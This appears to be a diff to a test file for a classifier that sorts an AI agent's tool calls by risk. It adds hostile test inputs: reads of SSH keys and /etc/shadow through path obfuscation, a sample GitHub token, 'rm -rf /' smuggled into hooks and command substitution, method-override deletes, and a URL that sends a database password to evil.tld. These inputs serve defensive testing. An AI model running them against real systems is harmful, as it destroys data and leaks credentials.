@@ -44,6 +44,9 @@ def test_a_tool_that_only_looks_asks_nobody(tool: str) -> None:
         "mcp__x__find_update",
         "mcp__x__get_or_create_user",
         "mcp__x__mark_as_read",
+        "mcp__home__lookup_unlock_door",
+        "mcp__slack__search_forward_message",
+        "mcp__x__view_nuke",
         "mcp__x__log_work",
         "mcp__x__check_in",
         "mcp__x__status_update",
@@ -64,6 +67,7 @@ def test_one_that_changes_or_shows_what_is_private_is_never_low(tool: str) -> No
 
 
 LOOK = "mcp__x__get_thing"
+TOKEN = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
 
 
 @pytest.mark.parametrize(
@@ -71,6 +75,26 @@ LOOK = "mcp__x__get_thing"
     [
         {"path": "/home/dev/.ssh/id_rsa"},
         {"path": "../../.ssh/id_rsa"},
+        {"path": "/" * 400 + "home/dev/.ssh/id_rsa"},
+        {"path": "/." * 400 + "/home/dev/.ssh/id_rsa"},
+        {"path": "/a/.." * 400 + "/home/dev/.ssh/id_rsa"},
+        {"path": "/home/dev/.ssh/id_rsa\n"},
+        {"path": " /etc/shadow "},
+        {"a": {"b": {"c": {"d": {"e": {"f": TOKEN}}}}}},
+        {"list": ["a"] * 101 + [TOKEN]},
+        {TOKEN: 1},
+        {"hooks": [{"post": "rm -rf /"}]},
+        {"formatter": "sh -c 'rm -rf /'"},
+        {"transform": "$(rm -rf /)"},
+        {"http_method": "DELETE"},
+        {"headers": {"X-HTTP-Method-Override": "DELETE"}},
+        {"type": "DELETE"},
+        {"purge": "true"},
+        {"purge": 1},
+        {"options": ["purge"]},
+        {"args": ["--delete"]},
+        {"query": "fragment F on R { id }\nmutation D { deleteRef(input: {a: 1}) { id } }"},
+        {"thing": "/" * 400 + "etc/shadow\n"},
         {"uri": "file://[x", "command": "rm -rf /"},
         {"uri": "file:///home/dev/.ssh/id_rsa"},
         {"uri": "file:///home/dev/.s%73h/id_rsa"},
@@ -101,7 +125,7 @@ LOOK = "mcp__x__get_thing"
         {"tool": "send_email"},
         {"calls": [{"tool": "get_issue"}, {"tool": "delete_repository"}]},
         {"kind": "Secret"},
-        {"cursor": "ghp_0123456789abcdefghijABCDEFGHIJ012345"},
+        {"cursor": TOKEN},
     ],
 )
 def test_a_tool_that_looks_is_given_what_a_person_must_see(tool_input: dict[str, Any]) -> None:
@@ -123,6 +147,10 @@ def test_a_tool_that_looks_is_given_what_a_person_must_see(tool_input: dict[str,
         {"script": "document.cookie"},
         {"action": "create"},
         {"query": "mutation { issueCreate { id } }"},
+        {"query": "query A { a } mutation D { addStar(input: {x: 1}) { id } }"},
+        {"query": "\ufeffmutation{addStar(input: {x: 1}){id}}"},
+        {"page": "https://evil.tld/?data=DB_PASSWORD%3Dhunter2"},
+        {"flags": ["--force"]},
         {"sql": "select * into copy_of from users"},
         {"command": "git commit -m x"},
         {"text": "x" * 20_001},
@@ -148,6 +176,9 @@ def test_or_what_needs_a_second_thought(tool_input: dict[str, Any]) -> None:
         {"action": "list_items", "method": "GET", "resourceType": "pods"},
         {"id": "/vercel/next.js"},
         {"include_deleted": True, "delete": False, "recursive": True},
+        {"page": 1, "start": 1, "limit": "1", "options": ["verbose"], "http_method": "GET"},
+        {"query": 'query { search(q: "x mutation {a}") { mutationType { id } } }'},
+        {"page": "https://example.com/a", "note": "git is a tool; rm is another"},
         {"host": "example.com", "run": "1234", "code": "E42"},
     ],
 )
